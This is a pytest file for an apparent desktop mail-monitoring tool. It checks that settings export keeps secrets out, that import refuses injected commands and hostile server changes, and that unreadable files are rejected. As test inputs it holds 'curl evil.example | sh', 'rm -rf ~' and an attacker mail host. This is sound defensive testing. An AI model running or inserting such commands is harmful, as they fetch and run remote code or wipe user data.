"""Taking settings along: no secret goes out, nothing dangerous comes in, and what was here stays."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sentwatch.core.playbooks.checklist import EvidenceKind, StepState
from sentwatch.core.settings import Settings
from sentwatch.core.trouble import EXPORT_UNREADABLE, FILE_IN_THE_WAY, Trouble
from sentwatch.service.data import TAKEN_ALONG
from sentwatch.wiring import App
from support.canaries import Canaries
from support.clocks import HandClock
from support.lived_in import SECRETS, Lived

WEB_HOOK = "https://hooks.example/services/T0/B1/verysecretpart"
COMMAND = "printf %s my-imap-password-7"


@pytest.fixture
def lived(tmp_path):
    lived = Lived(tmp_path / "here")
    lived.look()
    lived.furnish()
    app = lived.app
    app.accounts.put(replace(app.accounts.get("a1"), password_command=COMMAND, ca_file="/etc/office-ca.pem"))
    app.settings_file.write(
        replace(
            Settings(), language="ja", quiet_hours=True, second_channel="webhook", second_channel_target=WEB_HOOK,
            start_minimised=True, window={"width": 900},
        )
    )  # fmt: skip
    yield lived
    app.close()


@pytest.fixture
def other(tmp_path):
    app = App(data_dir=tmp_path / "there", secrets=SECRETS(), clock=HandClock())
    yield app
    app.close()


@pytest.fixture
def exported(lived, tmp_path):
    path = tmp_path / "export.json"
    lived.app.data_mover.export(path)
    return path


def test_no_secret_goes_out(lived, exported):
    canaries = Canaries(
        hook=WEB_HOOK, command=COMMAND, secret=lived.mailbox.secret, key=lived.secrets.kept["ledger-key"]
    )
    assert canaries.in_files(exported) == []
    text = exported.read_text()
    assert "office-ca.pem" not in text
    assert "window" not in json.loads(text)["settings"]
    assert not exported.stat().st_mode & 0o077
    with pytest.raises(Trouble) as told:
        lived.app.data_mover.export(exported)
    assert told.value.kind is FILE_IN_THE_WAY


def test_every_setting_is_either_taken_along_or_left_for_a_reason():
    left = {one for one in Settings.__dataclass_fields__ if one not in TAKEN_ALONG}
    assert left == {
        "window", "start_minimised", "told_close_to_tray", "told_no_tray", "second_channel",
        "second_channel_target", "second_channel_details",
    }  # fmt: skip


def test_it_arrives_on_the_other_computer(lived, exported, other):
    preview = other.data_mover.preview(exported)
    assert ("language", "system", "ja") in preview.settings
    assert [account.address for account in preview.new] == [lived.account.address]
    assert other.known_accounts() == ()
    assert other.settings == Settings()
    other.data_mover.take_in(preview)
    assert other.settings == replace(Settings(), language="ja", quiet_hours=True)
    [account] = other.known_accounts()
    here = lived.app.accounts.get("a1")
    assert account == replace(here, id=account.id, password_command=None, ca_file=None)
    assert account.id != here.id
    answers = other.data_mover._answers()
    assert len(answers) == 9
    assert all(one.evidence_kind is EvidenceKind.SELF_REPORTED for one in answers.values())
    assert other.office.contacts() == lived.app.office.contacts()
    assert other.office.people() == ("Aoki Mari", "Tanaka Jun")
    assert other.data_mover.preview(exported).is_empty


def test_what_was_seen_on_this_computer_is_no_answer_for_another(lived, exported):
    lived.app.checklist.refresh()
    kinds = {one.evidence_kind for one in lived.app.data_mover._answers().values()}
    assert EvidenceKind.AUTOMATIC in kinds
    assert len(json.loads(exported.read_text())["checklist"]) == 9


def test_an_account_that_is_here_keeps_its_server(lived, exported, other):
    told = json.loads(exported.read_text())
    told["accounts"][0]["host"] = "imap.attacker.example"
    told["accounts"][0]["address"] = lived.account.address.upper()
    exported.write_text(json.dumps(told))
    preview = lived.app.data_mover.preview(exported)
    assert preview.new == ()
    assert preview.known == (lived.account.address,)
    lived.app.data_mover.take_in(preview)
    assert lived.app.accounts.get("a1").host == "mail.example"


def test_no_command_and_no_web_hook_comes_in(exported, other):
    told = json.loads(exported.read_text())
    told["settings"] |= {"second_channel": "command", "second_channel_target": "rm -rf ~", "start_minimised": True}
    told["accounts"][0] |= {"password_command": "curl evil.example | sh", "ca_file": "/tmp/evil.pem", "id": "a1"}
    exported.write_text(json.dumps(told))
    other.data_mover.take_in(other.data_mover.preview(exported))
    [account] = other.known_accounts()
    assert (account.password_command, account.ca_file) == (None, None)
    assert account.id != "a1"
    assert other.settings == replace(Settings(), language="ja", quiet_hours=True)


def test_a_setting_that_does_not_fit_stays_as_it_is(exported, other):
    told = json.loads(exported.read_text())
    told["settings"] |= {"language": "fr", "sent_every_min": "often", "unknown": 1}
    exported.write_text(json.dumps(told))
    other.data_mover.take_in(other.data_mover.preview(exported))
    assert other.settings == replace(Settings(), quiet_hours=True)


def test_a_newer_answer_here_is_kept(lived, exported):
    step = lived.app.checklist.checklist.steps[0].id
    lived.later(timedelta(days=1))
    lived.app.checklist.answer(step, StepState.NOT_APPLICABLE)
    preview = lived.app.data_mover.preview(exported)
    assert step not in preview.answers


@pytest.mark.parametrize("text", ["", "[]", "{}", '{"schema": 2}', "\ufeff{}", '{"schema": 1, "kind": "other"}'])
def test_another_file_is_refused_in_words(tmp_path, other, text):
    path = tmp_path / "x.json"
    path.write_text(text)
    with pytest.raises(Trouble) as told:
        other.data_mover.preview(path)
    assert told.value.kind is EXPORT_UNREADABLE


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=300))
def test_any_bytes_are_refused_in_words(tmp_path, other, data):
    path = tmp_path / "x.json"
    path.write_bytes(data)
    with pytest.raises(Trouble):
        other.data_mover.preview(path)
